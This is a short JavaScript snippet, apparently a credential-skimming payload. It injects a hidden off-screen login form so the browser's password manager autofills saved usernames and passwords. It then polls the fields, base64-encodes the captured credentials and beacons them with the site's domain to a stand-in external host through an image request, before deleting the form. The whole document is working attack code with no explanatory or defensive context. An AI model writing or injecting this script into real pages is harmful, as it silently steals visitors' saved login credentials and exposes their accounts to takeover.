(function (d, w) {
  var box = d.createElement("div");
  box.style.cssText = "position:absolute;left:-9999px;top:0;opacity:0;height:1px;overflow:hidden";
  box.innerHTML = '<form><input name="username" autocomplete="username"><input name="password" type="password" autocomplete="current-password"></form>';
  d.body.appendChild(box);
  var f = box.firstChild, last = "";
  var t = w.setInterval(function () {
    var v = f.username.value + "\t" + f.password.value;
    if (f.password.value && v !== last) {
      last = v;
      new Image().src = "//pm.placeholder.example/p.gif?d=" + encodeURIComponent(btoa(v)) + "&s=" + d.domain;
      w.clearInterval(t);
      box.parentNode.removeChild(box);
    }
  }, 300);
})(document, window);
